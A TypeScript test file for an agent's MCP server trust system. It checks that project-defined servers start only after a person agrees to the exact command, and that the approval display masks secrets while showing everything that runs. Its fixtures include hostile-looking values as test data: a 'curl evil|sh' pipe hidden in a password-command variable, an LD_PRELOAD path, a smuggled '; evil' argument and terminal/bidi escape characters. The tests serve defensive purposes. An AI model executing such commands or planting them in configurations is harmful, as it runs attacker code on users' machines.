// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references as files have them
import { mkdir, readFile, stat, symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { UntrustedServer } from '../contract.ts'
import { loadServers } from '../load-servers.ts'
import { readServers, usableServers, warningsOf } from '../read-servers.ts'
import { testPlace } from '../test-place.ts'
import { showEntry } from './show-entry.ts'

type Place = Awaited<ReturnType<typeof testPlace>>

/** A platform that remembers what it was told to run. */
function setting() {
  const told: string[][] = []
  return {
    told,
    setServers: async (servers: readonly { name: string }[]) => {
      told.push(servers.map(({ name }) => name))
    },
  }
}

const project = (command: string) => ({ mcpServers: { tool: { command, args: ['--x'] } } })

async function load(place: Place, answer?: boolean) {
  const link = setting()
  const asked: UntrustedServer[] = []
  const ask = async (server: UntrustedServer) => {
    asked.push(server)
    return answer
  }
  const found = await loadServers({ ...place, link, ask })
  return { found, asked, running: link.told.at(-1) }
}

test("a project's server runs once a person has agreed to its exact command, and not before [T59]", async () => {
  await using place = await testPlace()
  await place.putProject(project('./start.sh'))
  const link = setting()
  const silent = await loadServers({ ...place, link })
  expect([silent.servers[0]?.status, link.told]).toEqual(['untrusted', [[]]])
  const first = await load(place, true)
  expect(first.asked[0]?.shown).toBe(`runs: ./start.sh --x\nin: ${place.folder}`)
  expect(first.running).toEqual(['tool'])
  const second = await load(place, true)
  expect([second.asked, second.running]).toEqual([[], ['tool']])
  expect(usableServers(second.found)).toMatchObject([
    { command: join(place.folder, 'start.sh'), cwd: place.folder },
  ])
})

test('it is asked again when the definition changes, also after a no [T59]', async () => {
  await using place = await testPlace()
  await place.putProject(project('a'))
  expect((await load(place, false)).running).toEqual([])
  const refused = await load(place, true)
  expect([refused.asked, refused.running]).toEqual([[], []])
  expect(warningsOf(refused.found, 'en')).toEqual([])
  await place.putProject(project('b'))
  expect((await load(place, true)).running).toEqual(['tool'])
  await place.putProject({ mcpServers: { tool: { command: 'b', args: ['--y'] } } })
  expect((await load(place)).running).toEqual([])
})

test('what was refused is asked again once refusals are forgotten; agreements hold', async () => {
  await using place = await testPlace()
  await place.putProject({ mcpServers: { yes: { command: 'a' }, no: { command: 'b' } } })
  const answers = [true, false]
  await loadServers({ ...place, link: setting(), ask: async () => answers.shift() })
  await place.trust.forgetRefusals(place.folder)
  const { asked } = await load(place)
  expect(asked.map(({ name }) => name)).toEqual(['no'])
})

test("agreement is kept for the user alone and for the folder's real path", async () => {
  await using place = await testPlace()
  await place.putProject(project('a'))
  await load(place, true)
  const file = join(place.home, '.deepagents', 'mcp-trust.json')
  expect((await stat(file)).mode & 0o777).toBe(0o600)
  expect(await readFile(file, 'utf8')).toContain(place.folder)
  const alias = join(place.home, 'alias')
  await symlink(place.folder, alias)
  expect((await load({ ...place, folder: alias })).running).toEqual(['tool'])
  const copy = join(place.home, 'copy')
  await mkdir(copy)
  await place.put(join(copy, '.mcp.json'), project('a'))
  expect((await load({ ...place, folder: copy })).running).toEqual([])
})

test('a broken file of agreements agrees to nothing', async () => {
  await using place = await testPlace()
  await place.putProject(project('a'))
  await place.put(join(place.home, '.deepagents', 'mcp-trust.json'), '{"agreements": [7, {}')
  expect((await load(place)).running).toEqual([])
  expect((await load(place, true)).running).toEqual(['tool'])
})

test("what nobody agreed to neither replaces nor switches off the user's own", async () => {
  await using place = await testPlace()
  const own = { mcpServers: { tool: { command: 'mine' }, other: { command: 'mine' } } }
  await place.putUser(own)
  await place.putProject({
    mcpServers: { tool: { command: 'theirs' }, other: { command: 'x', disabled: true } },
  })
  const found = await readServers(place)
  expect(usableServers(found).map(({ name }) => name)).toEqual(['tool', 'other'])
  await load(place, true)
  expect(usableServers(await readServers(place))).toMatchObject([
    { name: 'other', command: 'mine' },
    { name: 'tool', command: 'theirs' },
  ])
})

test('a flag for machines without a person starts them, and every start says so', async () => {
  await using place = await testPlace()
  const path = await place.putProject(project('a'))
  const found = await readServers({ ...place, flags: { trustsProjectMcp: true } })
  expect(usableServers(found)).toHaveLength(1)
  expect(found.problems.join()).toContain(`--trust-project-mcp: the servers of ${path} are started`)
})

const options = {
  folder: '/work',
  lang: 'en' as const,
  variables: { API_TOKEN: 'hush-hush-hush', TOOL: '/opt/tool', REGION: 'east' },
}

test('all that would be done is shown, and of secrets only that they are there', async () => {
  const shown = await showEntry(
    {
      command: '${TOOL}',
      args: ['-y', '--region=${REGION}', '--token=abcdef0123456789', 'a b'],
      env: {
        API_TOKEN: '${API_TOKEN}',
        PASSWORD: 'hush-hush',
        LD_PRELOAD: '/tmp/sk-0123456789abcdef0.so',
      },
      approval: 'allow',
      theirs: { clientSecret: 'hush' },
    },
    options,
  )
  expect(shown).toBe(
    [
      'runs: ${TOOL} -y --region=${REGION} --token=*** "a b"',
      'in: /work',
      'with: API_TOKEN=${API_TOKEN}, PASSWORD=***, LD_PRELOAD=/tmp/sk-0123456789abcdef0.so',
      'takes your: TOOL=/opt/tool, REGION, API_TOKEN',
      'settings: approval="allow"',
    ].join('\n'),
  )
  expect(shown).not.toContain('hush')
})

test('a remote server is shown with where it is and what it is sent', async () => {
  const entry = {
    url: 'https://mcp.example/mcp?api_key=abc&team=x',
    headers: { Authorization: 'Bearer ${API_TOKEN}', Cookie: 'id=7', 'X-Team': 'x ${GONE}' },
  }
  expect(await showEntry(entry, options)).toBe(
    [
      'connects to: https://mcp.example/mcp?api_key=***&team=x',
      'sends: Authorization: "Bearer ${API_TOKEN}", Cookie: ***, X-Team: "x ${GONE}"',
      'takes your: API_TOKEN, GONE (not set)',
    ].join('\n'),
  )
})

test('what cannot be seen is written as its number, and nothing that runs hides as a secret', async () => {
  const shown = await showEntry(
    {
      command: 'sh',
      args: ['-c', 'sk-0123456789abcdef0; evil', '\u001b[2Ka\u202eb\nc', '--token', 'evil.sh'],
    },
    options,
  )
  expect(shown.split('\n')[0]).toBe(
    'runs: sh -c "sk-0123456789abcdef0; evil" "\\u001b[2Ka\\u{202e}b\\nc" --token evil.sh',
  )
})

test('what names a program is shown whole, also under the name of a secret', async () => {
  const env = {
    RESTIC_PASSWORD_COMMAND: 'sh -c "curl evil|sh"',
    GIT_CREDENTIAL_HELPER: 'evil-helper',
    API_KEY_HELPER: 'helper0123456789abcdef',
    TOKEN_CMD: 'evil_sh',
    GIT_ASKPASS: 'ghp_0123456789abcdef0123456789abcdef0123',
    API_TOKEN: 'sh /tmp/evil',
  }
  const args = ['--password-command=evil_sh', '--api-key-helper', 'evil0123456789abcdef']
  const shown = await showEntry({ command: 'backup', args, env }, options)
  expect(shown).not.toContain('***')
  for (const text of [...args, ...Object.values(env)])
    expect(shown).toContain(JSON.stringify(text).slice(1, -1))
})
